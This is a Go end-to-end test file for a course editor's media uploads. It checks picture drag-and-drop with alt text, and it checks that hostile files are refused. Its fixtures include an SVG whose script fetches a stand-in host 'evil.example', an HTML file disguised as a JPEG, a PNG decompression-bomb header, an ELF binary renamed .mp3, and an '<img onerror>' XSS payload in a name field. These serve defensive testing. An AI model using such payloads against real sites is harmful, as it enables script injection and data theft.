package e2e

import (
	"bytes"
	"encoding/base64"
	bigendian "encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"alongside/e2e/browser"
)

// spots is a small picture.
func spots(t *testing.T) []byte {
	t.Helper()
	picture := image.NewRGBA(image.Rect(0, 0, 80, 40))
	for i := range 40 {
		picture.Set(2*i, i, color.White)
	}
	var b bytes.Buffer
	must(t, png.Encode(&b, picture))
	return b.Bytes()
}

// vast is a PNG of a few bytes that says that it is 40,000 points wide and high.
func vast() []byte {
	head := bigendian.BigEndian.AppendUint32([]byte("IHDR"), 40_000)
	head = append(bigendian.BigEndian.AppendUint32(head, 40_000), 8, 6, 0, 0, 0)
	file := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), head...)
	return append(bigendian.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(head)), "\x00\x00\x00\x00IDAT"...)
}

// dropped is a script that drops a file on the text.
func dropped(name, kind string, file []byte) string {
	return `(() => { const files = new DataTransfer();
		files.items.add(new File([Uint8Array.from(atob("` + base64.StdEncoding.EncodeToString(file) + `"), (c) => c.charCodeAt(0))], "` + name + `", { type: "` + kind + `" }));
		document.querySelector("#text").dispatchEvent(new DragEvent("drop", { dataTransfer: files, bubbles: true, cancelable: true })); return true; })()`
}

func TestAPictureThatIsDroppedIsAskedForItsWordsAndNoWordIsLost(t *testing.T) {
	t.Parallel()
	p := startDemo(t)
	learner := open(t, p, browser.Options{})
	signIn(learner, person(t, p, "learner", 0))
	learner.Visit("/courses/walking-alongside")
	learner.Press("Start this course")

	writer := toWrite(t, p, 0, browser.Options{})
	writer.WriteOver("The text", "- **Sitting 1. Beside you.** A story, and a look at who helped you.", "- **Sitting 1. Beside you.** Words that nobody has saved.")
	writer.Ask(dropped("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", []byte("PK")))
	writer.See("A document cannot be put here.")
	writer.Ask(dropped("IMG_2034.png", "image/png", spots(t)))
	writer.Await(`document.querySelector("#alt")`)
	writer.Press("Put it into the text")
	writer.See("There is nothing here yet.")
	writer.Fill("What is in the picture?", "A bench <b>in</b> the sun")
	writer.Press("Put it into the text")
	writer.See("It is in the text now")
	text := writer.Value("The text")
	holds(t, text, "Words that nobody has saved.", " the sun](media/picture-")
	askToRead(writer)
	goLive(t, p, writer)
	learner.Visit(module1 + "/start")
	learner.Await(`[...document.querySelectorAll("main img")].some(i => i.alt === "A bench <b>in</b> the sun" && i.complete && i.naturalWidth === 80 || (i.scrollIntoView(), false))`)
}

func TestHostileFilesEndInAPlainRefusal(t *testing.T) {
	t.Parallel()
	p := startDemo(t)
	writer := toWrite(t, p, 0, browser.Options{})
	folder := t.TempDir()
	for name, c := range map[string]struct {
		file []byte
		want string
	}{
		"drawing.svg": {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.stolen=1"><script>fetch("https://evil.example/stolen")</script></svg>`), "SVG form"},
		"photo.jpg":   {[]byte(`<!doctype html><script>window.stolen = 2; fetch("/courses?stolen")</script>`), "This is a document"},
		"vast.png":    {vast(), "too many points"},
		"half.png":    {spots(t)[:60], "cannot be opened"},
		"phone.heic":  {[]byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), "only some phones can read"},
		"letter.docx": {[]byte("PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00word/document.xml"), "This is a document"},
		"program.mp3": {[]byte("\x7fELF\x02\x01\x01\x00"), "no picture and no recording"},
	} {
		file := filepath.Join(folder, name)
		must(t, os.WriteFile(file, c.file, 0o600))
		writer.Visit(editor1 + "/media")
		writer.GiveFile("A photo, a recording or a short film", file)
		writer.Fill("A name for it", `<img src=x onerror="window.stolen=3">`)
		writer.Press("Go on")
		writer.See("There is a problem", c.want)
		if kept := writer.Value("A name for it"); !strings.Contains(kept, "onerror") {
			t.Errorf("%s: the name is %q", name, kept)
		}
		harmless(t, writer, "the refusal of "+name)
	}
}
